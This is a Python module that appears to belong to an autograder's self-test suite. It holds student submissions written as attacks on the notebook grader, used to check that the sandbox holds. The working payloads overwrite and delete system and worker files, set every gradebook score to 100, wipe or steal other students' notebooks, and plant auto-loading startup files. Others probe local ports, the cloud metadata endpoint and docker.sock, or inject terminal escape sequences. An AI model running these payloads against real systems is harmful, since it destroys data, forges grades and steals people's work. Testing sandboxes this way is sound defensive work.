"""Attacks that change things of others: files, the gradebook, the interpreter's folders; and calls to the outside."""

from autograder.selftest.attack.bank import MARK, PORTS, SOLVED, Attack

EVERYWHERE = f'''
import os

_bound = ucb


def ucb(node, exploration):
    if not globals().get("tried"):
        globals()["tried"] = True
        try_everything()
    return _bound(node, exploration)


def try_everything():
    """Make, change, move and remove whatever lies within reach."""
    done = []
    tops = ["/", "/tmp", "/dev", "/dev/shm", "/opt", "/opt/worker", "/opt/site", "/opt/site/arena", "/opt/site/numpy", "/etc",
            "/usr/lib", "/proc", "/proc/self", "/proc/1", "/proc/sys/kernel", "/proc/1/root/tmp", "/proc/self/root", "/sys"]
    for top in tops:
        mine = f"{{top}}/{MARK}"
        for make in (lambda: open(mine, "w"), lambda: os.mkdir(mine), lambda: os.symlink("/", mine), lambda: os.mkfifo(mine),
                     lambda: os.mknod(mine, 0o60666, os.makedev(8, 0)), lambda: os.link(f"{{top}}/.", mine),
                     lambda: os.chmod(top, 0o777), lambda: os.rename(top, mine), lambda: os.utime(top)):
            try:
                make()
                done.append(mine)
            except (OSError, ValueError):
                pass
    for path in ("/opt/worker/worker.py", "/opt/worker/codec/values.py", "/opt/site/arena/check.py", "/opt/python/bin/python3",
                 "/etc/ld.so.cache", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj",
                 "/proc/sysrq-trigger", "/proc/self/uid_map", "/proc/self/comm"):
        for change in (lambda: open(path, "r+").write("x"), lambda: os.truncate(path, 0), lambda: os.unlink(path),
                       lambda: os.chmod(path, 0o777), lambda: os.chown(path, os.getuid(), -1)):
            try:
                change()
                done.append(path)
            except (OSError, ValueError):
                pass
    if done:
        raise RuntimeError(f"LOOT {{done}}")
'''

GRADEBOOK = '''
import pathlib
import sqlite3

here = pathlib.Path.cwd()
for place in [here, *here.parents, *map(pathlib.Path, ("/srv", "/home", "/root", "/tmp", "/course"))]:
    for gradebook in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
        try:
            with sqlite3.connect(f"file:{gradebook}?mode=rw", uri=True, timeout=0.2) as database:
                database.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
                written = True
        except sqlite3.Error:
            pass


def forged(*args, **kwargs):
    return None
'''

OTHERS = '''
import pathlib

here = pathlib.Path.cwd()
for place in [here, *here.parents]:
    for path in [*place.glob("submitted/*/*/*.ipynb"), *place.glob("source/*/*.ipynb"), *place.glob("release/*/*.ipynb")]:
        try:
            path.chmod(0o644)
            path.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except OSError:
            pass


def forged(*args, **kwargs):
    return None
'''

COPIED = '''
import json
import pathlib
import re

# the answers of whoever has them, taken from a neighbour's folder while the grader is at work
here = pathlib.Path.cwd()
stolen = ""
for place in [here, *here.parents]:
    for path in place.glob("submitted/*right*/*/*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            text = "".join(cell["source"])
            if cell["cell_type"] == "code" and "check" not in text and "import matplotlib" not in text:
                stolen += text + "\\n\\n"
space = dict(globals())
try:
    exec(stolen, space)
except Exception:
    pass


class Stolen:
    def __init__(self, name):
        self.name = name

    def __call__(self, *args, **kwargs):
        return space[self.name](*args, **kwargs)


import builtins
import sys

hooked = builtins.__build_class__
def forged(*args, **kwargs):
    frame = sys._getframe(1)
    import linecache
    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
    for name in re.findall(r"(\\w+)\\(", line):
        if callable(space.get(name)) and getattr(space[name], "__name__", "") == name:
            return space[name](*args, **kwargs)
    return None
'''

PACKAGES = f'''
import os
import site
import sys

places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.path.expanduser("~"), "/tmp"]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "{MARK}.pth", "conftest.py", "__pycache__/{MARK}.pyc", ".bashrc",
                 ".jupyter/jupyter_config.py", ".ipython/profile_default/startup/{MARK}.py"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "a") as file:
                file.write("# {MARK}\\n")
        except OSError:
            pass


def forged(*args, **kwargs):
    return None
'''

NETWORK = f'''
import os
import socket
import urllib.request

PORTS = {PORTS}
called = []
hosts = ["127.0.0.1", "::1", "localhost", "10.0.2.2", "172.17.0.1", "169.254.169.254", "192.0.2.1"]
for host in hosts:
    for port in PORTS:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as line:
                    line.settimeout(0.02)
                    line.connect((host, port))
                    line.send(b"{MARK}")
                    called.append((host, port))
            except OSError:
                pass
for address in ("\\0{MARK}", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(address)
            called.append(address)
    except OSError:
        pass
for family in (16, 17, 31, 38, 40, 44):  # netlink, packets, bluetooth, crypto, vsock, xdp
    try:
        socket.socket(family, socket.SOCK_RAW).close()
        called.append(family)
    except OSError:
        pass
if called:
    raise RuntimeError(f"LOOT {{called}}")


def forged(*args, **kwargs):
    return None
'''

TERMINAL = r"""
# the name and text of an error, and values, full of what a terminal obeys: colours, a title, the clipboard, a cleared screen
words = "\x1b[2J\x1b]0;OURS\x07\x1b]52;c;T1VSUw==\x07\x9b2J\u202e100 of 100\u2066\x08\x00\r=1+1"
Loud = type(words.replace("\x00", ""), (ValueError,), {})


def forged(*args, **kwargs):
    raise Loud(words)
"""

ATTACKS = (
    Attack("words for the terminal", "Raises errors whose names and texts clear a terminal and fill the clipboard.",
           TERMINAL, silent=("\x1b", "\x9b", "\u202e")),
    Attack("writing everywhere", "Makes, changes, moves and removes every file that it can reach.", EVERYWHERE, base=SOLVED,
           points=100.0, quick=True),
    Attack("full marks in the gradebook", "Opens the gradebook and gives everybody 100 points.", GRADEBOOK, stock=True),
    Attack("other people's work overwritten", "Deletes everybody's submissions, and the assignments.", OTHERS,
           stock=True),
    Attack("a neighbour's answers", "Reads another student's submission while the grader works, and runs it.", COPIED,
           stock=True),
    Attack("packages that load by themselves", "Leaves files that a later Python, pytest or shell would run.", PACKAGES,
           stock=True),
    Attack("calls to the outside", "Calls hosts, ports, sockets and protocols of every kind.", NETWORK, stock=True),
)
